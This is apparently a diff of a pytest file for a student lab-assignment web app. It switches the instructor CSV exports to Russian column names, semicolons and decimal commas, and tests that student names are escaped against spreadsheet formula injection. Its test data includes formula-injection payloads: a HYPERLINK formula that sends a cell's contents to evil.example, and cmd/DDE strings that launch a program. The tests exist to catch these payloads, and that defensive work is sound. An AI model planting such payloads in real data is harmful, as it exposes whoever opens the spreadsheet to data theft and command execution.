@@ -29,6 +29,19 @@ FLYWHEEL = {"scene": "flywheel", "variant": "rig", "title": "Lab 5",
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "-2+3", "\t=1+1", "\r=1+1"]
 NAMES = list(dict.fromkeys(clean(p) for p in PAYLOADS))      # as registered: a leading tab or CR is not kept
+# the instructor's CSV of a ru assignment: ";" between cells, a decimal comma, the columns in words
+STUDENT, VARIANT, LINK = "Студент", "Вариант", "Личная ссылка"
+INERTIA = "Момент инерции маховика J_м (точный, для заданного δ)"
+ANSWER, CORRECT = f"{INERTIA}: ответ", f"{INERTIA}: Правильный ответ"
+
+
+def csv_rows(text: str) -> list[dict]:
+    """The rows of an instructor's CSV (ru), by the columns' words."""
+    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))
+
+
+def number(cell: str) -> float:
+    return float(cell.replace(",", "."))
 
 
 @pytest.fixture()
@@ -250,7 +263,7 @@ def test_locked_registration_takes_no_typed_name(client, created):
 def links(client, created) -> dict[str, str]:
     """The instructor's links CSV for the students without a link: name → personal link."""
     answer = client.post(f"{instructor(created)}/links?only_new=true")
-    return {row["student"]: row["personal_link"] for row in csv.DictReader(io.StringIO(answer.text.lstrip("\ufeff")))}
+    return {row[STUDENT]: row[LINK] for row in csv_rows(answer.text)}
 
 
 @pytest.mark.parametrize("lock", [True, False])
@@ -344,15 +357,15 @@ def test_personal_links_csv_makes_new_links_and_ends_the_old(client, created):
     assert len(NAMES) == 5                              # "\t=1+1" and "\r=1+1" are one name, "=1+1"
     only_new = client.post(f"{instructor(created)}/links?only_new=true")
     assert only_new.headers["content-type"].startswith("text/csv") and only_new.text.startswith("\ufeff")
-    rows = list(csv.DictReader(io.StringIO(only_new.text.lstrip("\ufeff"))))
-    assert "Ivan Petrov" not in {r["student"] for r in rows} and len(rows) == 1 + len(NAMES)
-    assert {r["student"] for r in rows} == {"KM-21/1 Ivanov"} | {"'" + name for name in NAMES}
+    rows = csv_rows(only_new.text)
+    assert "Ivan Petrov" not in {r[STUDENT] for r in rows} and len(rows) == 1 + len(NAMES)
+    assert {r[STUDENT] for r in rows} == {"KM-21/1 Ivanov"} | {"'" + name for name in NAMES}
     assert client.get(f"{API}/{created['id']}/me", headers=bearer(old)).status_code == 200     # untouched
     for row in rows:                                    # every link works, in a browser of its own
         browser = fresh(client)
-        browser.get(row["personal_link"].replace(str(client.base_url), ""))
-        assert browser.get(f"{API}/{created['id']}/me").json()["variant"] == int(row["variant"])
-    every = list(csv.DictReader(io.StringIO(client.post(f"{instructor(created)}/links").text.lstrip("\ufeff"))))
+        browser.get(row[LINK].replace(str(client.base_url), ""))
+        assert browser.get(f"{API}/{created['id']}/me").json()["variant"] == int(row[VARIANT])
+    every = csv_rows(client.post(f"{instructor(created)}/links").text)
     assert len(every) == 2 + len(NAMES)
     assert client.get(f"{API}/{created['id']}/me", headers=bearer(old)).status_code == 403     # ended
 
@@ -403,41 +416,45 @@ def test_every_formula_payload_is_written_as_text(payload):
     """Before: each of the six started a cell that a spreadsheet runs; the tab and CR ones after the
     spreadsheet strips the leading whitespace. The prefix goes on the raw text, before anything strips it."""
     assert safe_cell(payload) == "'" + payload
-    assert safe_cell(-1.5) == "-1.5" and safe_cell(-2) == -2 and safe_cell("Ivan") == "Ivan" and safe_cell(None) == ""
+    assert safe_cell(-1.5) == "-1.5" and safe_cell(-2) == "-2" and safe_cell("Ivan") == "Ivan" and safe_cell(None) == ""
+    assert safe_cell(-1.5, "ru") == "-1,5"
 
 
 @given(st.text(max_size=20), st.floats(allow_nan=False, allow_infinity=False))
 def test_a_text_cell_never_starts_a_formula_and_a_number_reads_back_exactly(text, number):
-    """Any text is written as itself or behind one apostrophe, never starting with = + - @ TAB CR, and reads
-    back so through a CSV reader; a float reads back equal (repr: every digit)."""
+    """Any text is written as itself with apostrophes before formula characters only, and no cell starts with
+    = + - @ TAB CR when the row is read back at any separator; a float reads back equal (repr: every digit)."""
     shown = safe_cell(text)
-    assert shown in (text, "'" + text) and not shown.startswith(FORMULA_STARTS)
+    assert shown.replace("'", "") == text.replace("'", "") and not shown.startswith(FORMULA_STARTS)
     out = io.StringIO(newline="")
-    csv.writer(out).writerow([shown, safe_cell(number)])
+    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([shown, safe_cell(number)])
     cell, figure = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
     assert cell == shown and float(figure) == number
+    for delimiter in (",", ";", "\t"):                 # a negative number the app wrote may begin a cell
+        for row in csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter):
+            assert not any(c.startswith(FORMULA_STARTS) and not re.match(r"-\d", c) for c in row), row
 
 
 def test_the_results_csv_neutralises_names_and_keeps_negative_numbers(client, created):
     for payload in PAYLOADS[:-1]:                      # the CR payload registers as the tab one: "=1+1"
         submit(client, created, -1.5, bearer(secret_of(client, created, payload)))
     table = client.get(f"{instructor(created)}/csv").text.lstrip("\ufeff")
-    rows = list(csv.DictReader(io.StringIO(table)))
-    assert [row["student"] for row in rows] == ["'" + name for name in NAMES]
+    rows = csv_rows(table)
+    assert [row[STUDENT] for row in rows] == ["'" + name for name in NAMES]
     for row in rows:
-        assert row["flywheel_inertia answer"] == "-1.5" and float(row["flywheel_inertia correct"]) > 0
-    for cell in (c for row in csv.reader(io.StringIO(table)) for c in row):
+        assert row[ANSWER] == "-1,5" and number(row[CORRECT]) > 0
+    for cell in (c for row in csv.reader(io.StringIO(table), delimiter=";") for c in row):
         assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
         if cell.startswith("-"):
-            float(cell)                                 # a number the app wrote, or the test fails here
+            number(cell)                                # a number the app wrote, or the test fails here
 
 
 def test_a_table_cell_starting_with_a_minus_is_a_number_or_prefixed(client, created):
     """The app's own negative numbers stay numbers (a spreadsheet reads them as such); a name never starts a
     cell with "-" unprefixed."""
     submit(client, created, -2e-5, bearer(secret_of(client, created, "-1")))
-    row = next(csv.DictReader(io.StringIO(client.get(f"{instructor(created)}/csv").text.lstrip("\ufeff"))))
-    assert row["student"] == "'-1" and float(row["flywheel_inertia answer"]) == -2e-5
+    row = csv_rows(client.get(f"{instructor(created)}/csv").text)[0]
+    assert row[STUDENT] == "'-1" and number(row[ANSWER]) == -2e-5
 
 
 # --- point 5: a name with "/" ----------------------------------------------------------------------------------
